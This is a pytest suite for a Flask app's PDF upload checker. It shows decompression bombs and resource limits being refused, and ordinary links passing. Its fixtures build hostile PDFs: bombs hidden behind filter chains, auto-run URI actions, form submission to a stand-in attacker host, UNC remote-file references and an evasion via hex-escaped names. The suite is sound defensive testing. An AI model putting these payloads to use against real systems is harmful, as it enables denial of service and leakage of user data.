"""The PDF upload check runs in a limited child process: decompression bombs, too many objects, too much
time or memory end in a clear refusal within seconds; actions that run by themselves, reach other files or
servers or send form data, and XFA forms are refused; ordinary links and destinations are not."""

from __future__ import annotations

import base64
import io
import time
import zlib
from collections.abc import Iterator

import pytest
from flask import Flask
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from app import create_app
from app.engine import InvalidData
from app.services import uploads
from app.services.uploads import check_pdf
from tests.support.hostile_pdfs import (
    MIB,
    content_stream_bomb,
    deflated_zeros,
    image_bomb,
    object_stream_bomb,
    one_page,
    stream,
)

LIMIT = 20 * MIB
COSTLY = "El PDF es demasiado costoso de revisar"
ACTIONS = "El PDF contiene acciones automáticas"
ACTIVE = "El PDF contiene código o archivos incrustados"
QUICKLY = 10.0
"""Seconds a refusal may take at most (the reported object-stream bomb took 14.6 s to be accepted)."""


@pytest.fixture(autouse=True)
def no_remembered_verdicts() -> Iterator[None]:
    """Every test here runs the child process (verdicts are otherwise remembered by content)."""
    uploads._VERDICTS_SEEN.clear()
    yield
    uploads._VERDICTS_SEEN.clear()


def refusal(content: bytes) -> tuple[str, float]:
    started = time.monotonic()
    with pytest.raises(InvalidData) as info:
        check_pdf(content, LIMIT)
    return info.value.message.msgid, time.monotonic() - started


@pytest.mark.parametrize(
    "build",
    [object_stream_bomb, content_stream_bomb, image_bomb],
    ids=["object-stream-20KB-to-20MB", "content-stream-1MB-to-1GiB", "image-1MB-to-1GiB"],
)
def test_decompression_bombs_are_refused_quickly(build: object) -> None:
    content = build()  # type: ignore[operator]
    assert len(content) < 2 * MIB
    message, elapsed = refusal(content)
    assert message.startswith(COSTLY), message
    assert elapsed < QUICKLY, elapsed


def test_a_bomb_behind_another_filter_is_measured_too() -> None:
    hidden = base64.a85encode(deflated_zeros(1024 * MIB)) + b"~>"
    bomb = one_page(extra=(stream(hidden, b"/Filter [/ASCII85Decode /FlateDecode]"),), catalog_extra=b"/Extra 5 0 R")
    message, elapsed = refusal(bomb)
    assert message.startswith(COSTLY)
    assert elapsed < QUICKLY
    honest = base64.a85encode(zlib.compress(b"BT (hola) Tj ET\n" * 1000)) + b"~>"
    check_pdf(
        one_page(extra=(stream(honest, b"/Filter [/A85 /Fl]"),), catalog_extra=b"/Extra 5 0 R"),
        LIMIT,
    )


def test_three_object_stream_bombs_in_a_row_stay_quick() -> None:
    started = time.monotonic()
    for extra in range(3):
        assert refusal(object_stream_bomb(20 * MIB + extra))[0].startswith(COSTLY)
    assert time.monotonic() - started < 2 * QUICKLY


def test_large_but_honest_streams_pass() -> None:
    """An image that inflates exactly to its declared raster, and compressed text, are ordinary files."""
    check_pdf(image_bomb(inflated=2000 * 2000, width=2000, height=2000), LIMIT)
    text = b"BT /F1 9 Tf 20 20 Td (Cuadro de areas del proyecto arquitectonico, planta baja) Tj ET\n" * 20000
    check_pdf(
        one_page(extra=(stream(zlib.compress(text), b"/Filter /FlateDecode"),), catalog_extra=b"/Extra 5 0 R"), LIMIT
    )


@pytest.fixture
def limited_app() -> Iterator[Flask]:
    application = create_app("test")
    with application.app_context():
        yield application


def test_the_child_is_killed_at_its_wall_clock_limit(limited_app: Flask) -> None:
    limited_app.config["PDF_CHECK_WALL_SECONDS"] = 0.05
    message, elapsed = refusal(one_page())
    assert message.startswith(COSTLY)
    assert elapsed < 5


def test_the_child_runs_within_its_memory_limit(limited_app: Flask) -> None:
    # ratio and decoded-bytes bounds off: only the address-space limit stops the inflation of 1 GiB kept
    # in memory by a chain of two filters
    limited_app.config.update(PDF_CHECK_MEMORY_BYTES=160 * MIB)
    check_pdf(one_page(), LIMIT)  # the limit leaves room for ordinary files
    bomb = one_page(
        extra=(stream(deflated_zeros(1024 * MIB), b"/Filter [/FlateDecode /ASCIIHexDecode]"),),
        catalog_extra=b"/Extra 5 0 R",
    )
    limited_app.config.update(PDF_CHECK_MAX_RATIO=10**6, PDF_CHECK_MAX_DECODED_BYTES=4 * 1024 * MIB)
    message, elapsed = refusal(bomb)
    assert message.startswith(COSTLY)
    assert elapsed < QUICKLY


def test_the_child_runs_within_its_cpu_limit(limited_app: Flask) -> None:
    limited_app.config.update(
        PDF_CHECK_CPU_SECONDS=1, PDF_CHECK_MAX_RATIO=10**6, PDF_CHECK_MAX_DECODED_BYTES=64 * 1024 * MIB
    )
    many = one_page(
        extra=tuple(stream(deflated_zeros(1024 * MIB), b"/Filter /FlateDecode") for _ in range(8)),
        catalog_extra=b"/Extra [5 0 R 6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R 12 0 R]",
    )
    message, elapsed = refusal(many)
    assert message.startswith(COSTLY)
    assert elapsed < QUICKLY


def test_too_many_objects_are_refused(limited_app: Flask) -> None:
    limited_app.config["PDF_CHECK_MAX_OBJECTS"] = 50
    crowded = one_page(
        catalog_extra=b"/Extra [" + b" ".join(b"%d 0 R" % n for n in range(5, 105)) + b"]",
        extra=tuple(b"<< /N %d >>" % n for n in range(100)),
    )
    assert refusal(crowded)[0].startswith(COSTLY)
    limited_app.config["PDF_CHECK_MAX_OBJECTS"] = 500
    check_pdf(crowded, LIMIT)


# -- item 8: features refused ------------------------------------------------------------------------------

UNC = rb"(\\\\atacante.example\\recurso\\planos.pdf)"
XFA = b"""<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field name="a"><event activity="initialize">
<script contentType="application/x-javascript">xfa.host.messageBox("hola")</script></event></field></subform>
</template></xdp:xdp>"""


def annotated(action: bytes) -> bytes:
    """A page with one link annotation that runs ``action`` when clicked."""
    return one_page(
        page_extra=b"/Annots [5 0 R]",
        extra=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + action + b" >>",),
    )


HOSTILE: list[tuple[str, bytes, str]] = [
    (
        "xfa-with-script",
        one_page(catalog_extra=b"/AcroForm << /Fields [] /XFA 5 0 R >>", extra=(stream(XFA),)),
        ACTIONS,
    ),
    (
        "xfa-packets",
        one_page(catalog_extra=b"/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>", extra=(stream(XFA),)),
        ACTIONS,
    ),
    (
        "open-action-uri",
        one_page(catalog_extra=b"/OpenAction << /S /URI /URI (https://atacante.example/x) >>"),
        ACTIONS,
    ),
    (
        "open-action-goto-then-uri",
        one_page(
            catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://a.example) >> >>"
        ),
        ACTIONS,
    ),
    ("open-action-named-print", one_page(catalog_extra=b"/OpenAction << /S /Named /N /Print >>"), ACTIONS),
    ("submit-form", annotated(b"<< /S /SubmitForm /F << /FS /URL /F (https://atacante.example/recibe) >> >>"), ACTIONS),
    ("submit-form-hex-name", annotated(b"<< /S /Submit#46orm /F (https://atacante.example/) >>"), ACTIONS),
    ("goto-remote-unc", annotated(b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"), ACTIONS),
    (
        "goto-remote-on-open",
        one_page(catalog_extra=b"/OpenAction << /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"),
        ACTIONS,
    ),
    ("goto-embedded", annotated(b"<< /S /GoToE /T << /R /C /N (adjunto.pdf) >> /D [0 /Fit] >>"), ACTIONS),
    ("import-data", annotated(b"<< /S /ImportData /F (C:\\\\datos.fdf) >>"), ACTIONS),
    (
        "page-additional-actions",
        one_page(page_extra=b"/AA << /O << /S /URI /URI (https://atacante.example/) >> >>"),
        ACTIONS,
    ),
    ("catalog-additional-actions", one_page(catalog_extra=b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>"), ACTIONS),
    (
        "field-additional-actions",
        one_page(
            catalog_extra=b"/AcroForm << /Fields [5 0 R] >>",
            page_extra=b"/Annots [5 0 R]",
            extra=(
                b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 10 10] "
                b"/AA << /Fo << /S /SubmitForm /F (https://atacante.example/) >> >> >>",
            ),
        ),
        ACTIONS,
    ),
    ("javascript-still-named-first", one_page(catalog_extra=b"/AA << /WC << /S /JavaScript /JS (x) >> >>"), ACTIVE),
]


@pytest.mark.parametrize(("name", "content", "message"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_unwanted_pdf_features_are_refused(name: str, content: bytes, message: str) -> None:
    assert refusal(content)[0].startswith(message), name


def _written(build: object) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    build(writer)  # type: ignore[operator]
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_pypdf_written_open_action_to_a_web_page_is_refused() -> None:
    def uri_on_open(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://atacante.example")}
        )

    assert refusal(_written(uri_on_open))[0].startswith(ACTIONS)


ORDINARY: list[tuple[str, bytes]] = [
    ("link-to-a-web-page", annotated(b"<< /S /URI /URI (https://www.gob.mx/conamer) >>")),
    ("link-to-a-page", annotated(b"<< /S /GoTo /D [3 0 R /Fit] >>")),
    ("open-at-a-destination", one_page(catalog_extra=b"/OpenAction [3 0 R /FitH 792]")),
    ("open-with-goto", one_page(catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
    ("acroform-without-actions", one_page(catalog_extra=b"/AcroForm << /Fields [] >>")),
]


@pytest.mark.parametrize(("name", "content"), ORDINARY, ids=[o[0] for o in ORDINARY])
def test_ordinary_links_and_destinations_pass(name: str, content: bytes) -> None:
    check_pdf(content, LIMIT)


def test_pypdf_written_link_annotation_passes() -> None:
    def add_link(writer: PdfWriter) -> None:
        writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://www.gob.mx/"))

    check_pdf(_written(add_link), LIMIT)


def test_the_same_bytes_are_parsed_once_per_process(monkeypatch: pytest.MonkeyPatch) -> None:
    runs: list[int] = []
    real = uploads._run_probe

    def counted(content: bytes, limits: uploads.Limits, wall: float) -> str | None:
        runs.append(len(content))
        return real(content, limits, wall)

    monkeypatch.setattr(uploads, "_run_probe", counted)
    plain, bomb = one_page(), object_stream_bomb()
    for _ in range(3):
        check_pdf(plain, LIMIT)
        assert refusal(bomb)[0].startswith(COSTLY)
    assert runs == [len(plain), len(bomb)]
    check_pdf(one_page(catalog_extra=b"/Lang (es-MX)"), LIMIT)  # other bytes: parsed
    assert len(runs) == 3


def test_a_child_that_cannot_start_refuses_the_file(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads.sys, "executable", "/nonexistent/python3")
    assert refusal(one_page())[0].startswith(COSTLY)
